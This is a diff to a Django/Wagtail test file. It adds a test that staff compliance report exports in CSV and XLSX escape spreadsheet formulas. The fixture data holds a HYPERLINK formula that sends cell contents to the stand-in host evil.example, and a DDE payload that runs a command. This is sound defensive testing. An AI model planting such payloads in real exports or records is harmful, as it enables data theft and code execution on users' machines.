@@ -13,7 +13,7 @@ from django.utils import timezone
 from wagtail import hooks
 from wagtail.users.models import UserProfile
 
-from courses.models import Enrollment
+from courses.models import Enrollment, StaffProfile
 from courses.roles import ADMINISTRATORS, LEARNERS, MANAGERS, TRAINERS
 from courses.testing import make_user
 
@@ -193,3 +193,21 @@ def test_a_learner_has_no_home_panel_or_report(client, org):
     client.force_login(org["people"]["bita"])
 
     assert client.get("/admin/compliance/overdue/").status_code in (302, 403)
+
+
+@pytest.mark.parametrize(("report", "learner"), [("matrix", "bita"), ("overdue", "bita"), ("due-soon", "cyrus")])
+def test_no_export_cell_can_run_a_formula(manager_client, org, report, learner):
+    person = org["people"][learner]
+    person.first_name, person.last_name = '=HYPERLINK("http://evil.example/?"&A1', '"x")'
+    person.save()
+    StaffProfile.objects.filter(user=person).update(department="+cmd|' /C calc'!A0", persian_name="")
+    name = '\'=HYPERLINK("http://evil.example/?"&A1 "x")'
+
+    rows, _ = csv_export(manager_client, f"/admin/compliance/{report}/?export=csv")
+    sheet, _ = xlsx_export(manager_client, f"/admin/compliance/{report}/?export=xlsx")
+
+    for written in (rows, sheet):
+        row = next(row for row in written if row[0] == name)
+        assert "'+cmd|' /C calc'!A0" in row
+        cells = [cell for row in written for cell in row if isinstance(cell, str)]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
